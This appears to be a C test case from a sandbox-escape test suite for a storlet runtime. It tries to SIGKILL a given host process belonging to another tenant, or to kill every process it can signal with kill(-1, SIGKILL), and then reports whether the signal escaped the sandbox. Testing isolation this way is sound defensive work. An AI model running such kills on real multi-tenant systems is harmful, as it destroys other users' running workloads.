/* A15: signal processes outside the sandbox. Mode "pid P": SIGKILL host
 * pid P (another tenant's storlet). Mode "all": kill(-1, SIGKILL), which
 * hits every process the caller may signal (we survive it). Escaped if
 * the signal was delivered to someone outside (the runner checks the
 * victim; for "pid" a successful kill() is enough). */
#include <signal.h>
#include "attack.h"

int main(int argc, char **argv)
{
    attack_name = "kill";
    if (argc > 2 && strcmp(argv[1], "pid") == 0) {
        long pid = arg_long(argc, argv, 2, 0);
        if (kill((pid_t)pid, SIGKILL) == 0)
            verdict(1, "SIGKILL delivered to pid %ld", pid);
        verdict(0, "kill(%ld): %s", pid, strerror(errno));
    }
    if (argc > 1 && strcmp(argv[1], "all") == 0) {
        signal(SIGTERM, SIG_IGN);
        int rc = kill(-1, SIGKILL);
        /* whether anyone outside died is for the runner to see */
        verdict(0, "kill(-1) returned %d (%s)", rc, rc ? strerror(errno) : "ok");
    }
    BROKEN("usage: kill pid P | all");
}
